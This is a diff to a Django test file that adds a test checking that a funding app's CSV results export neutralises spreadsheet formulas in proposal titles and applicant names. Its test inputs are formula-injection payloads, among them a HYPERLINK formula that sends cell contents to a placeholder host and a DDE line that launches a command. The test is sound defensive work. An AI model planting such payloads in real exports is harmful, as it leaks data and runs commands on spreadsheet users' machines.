@@ -10,9 +10,9 @@ import pytest
 from auditlog.models import LogEntry
 from django.urls import reverse
 
-from coprod.models import Notification
+from coprod.models import Notification, Person
 from funding.enums import CallStatus, ConflictCategory, ConflictDecision, PanelRole
-from funding.models import ConflictDeclaration, Decision, PanelMember
+from funding.models import ConflictDeclaration, Decision, PanelMember, Proposal
 from funding.permissions import sync_proposal_access
 from tests.factories.funding import (
     PanelFactory,
@@ -68,6 +68,28 @@ def test_csv_export_has_the_same_numbers_and_is_audited(client):
     entry = LogEntry.objects.get(action=LogEntry.Action.ACCESS)
     assert (entry.actor, entry.object_pk) == (staff, str(example.call.pk))
     assert entry.additional_data["context"] == "results export"
+
+
+@pytest.mark.parametrize(
+    ("title", "name"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"Open")', "@SUM(1+1)"),
+        ("+44 cmd|' /C calc'!A0", "-2+3"),
+        (" \t=1+1", "\r=1+1"),
+    ],
+    ids=["equals-and-at", "plus-and-minus", "after-spaces"],
+)
+def test_csv_export_quotes_titles_and_names_a_spreadsheet_would_run(client, title, name):
+    example = build_example()
+    proposal = example.proposals["B"]
+    Proposal.objects.filter(pk=proposal.pk).update(title=title)
+    Person.objects.filter(pk=proposal.applicant_id).update(chosen_name=name)
+    client.force_login(make_funding_staff())
+
+    response = client.get(reverse("funding_results:csv", kwargs={"call_id": example.call.pk}))
+
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert (row["proposal"], row["applicant"]) == ("'" + title, "'" + name)
 
 
 def test_decision_form_shows_errors_and_saves_nothing(client):
